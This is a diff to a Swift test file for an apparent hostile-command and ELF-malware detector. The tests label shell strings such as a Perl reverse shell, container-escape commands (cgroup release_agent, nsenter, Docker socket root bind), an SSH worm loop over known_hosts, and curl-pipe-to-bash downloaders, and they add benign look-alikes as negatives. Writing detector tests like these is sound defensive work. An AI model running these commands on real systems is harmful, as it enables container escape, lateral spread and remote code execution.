@@ -13,6 +13,7 @@ import Testing
     #expect(summary.buildID == "e8c9b67ecca6a989318fead6ae6480590ecbc823")
     #expect(Set(summary.interposes.map(\.text)) == ["readdir64", "accept"])
     #expect(ELFSummaryReader.interestingStrings(bytes).contains { $0.text == "/dev/shm/.hide-me" })
+    #expect(summary.texts.contains { $0.text == "/dev/shm/.hide-me" })
   }
 
   @Test func aDamagedELFIsSurvived() throws {
@@ -57,6 +58,13 @@ import Testing
       "perl -e 'use Socket;$i=\"a\";socket(S,PF_INET,SOCK_STREAM,1);connect(S,sockaddr_in(1,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
       "reverse-shell"
     ),
+    ("echo 1 > /mnt/x/notify_on_release\necho /cmd > /mnt/release_agent", "container-escape"),
+    ("nsenter --target 1 --mount --pid -- /bin/sh", "container-escape"),
+    ("curl --unix-socket /var/run/docker.sock -d '{\"Binds\":[\"/:/h\"]}' http://x/", "container-escape"),
+    (
+      "for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh -o StrictHostKeyChecking=no -i ~/.ssh/id_rsa $h id; done",
+      "ssh-spreading"
+    ),
     ("curl -fsSL http://x/a.sh | bash", "downloader-to-shell"),
     ("wget -qO- http://x | sudo -E bash -", "downloader-to-shell"),
     ("c''url http://x|s\\h", "downloader-to-shell"), ("curl${IFS}http://x|bash", "downloader-to-shell"),
@@ -82,6 +90,10 @@ import Testing
   }
 
   @Test(arguments: [
+    "cat /sys/fs/cgroup/rdma/release_agent", "nsenter -t 4242 -n ip addr",
+    "docker run -v /var/run/docker.sock:/var/run/docker.sock portainer",
+    "ssh -o StrictHostKeyChecking=no -i ~/.ssh/id_ed25519 deploy@app 'systemctl restart app'",
+    "for h in web1 web2; do ssh -o StrictHostKeyChecking=no $h uptime; done",
     "<?php echo htmlspecialchars($_GET['q']); ?>", "<?php $f = new Filesystem($_GET['x']); ?>",
     "<?php $db->exec($_POST['x']); ?>",
     "<?php $id = $_GET['id']; system('ls'); ?>", "<?php include('header.php'); if ($_GET['x']) echo 1; ?>",
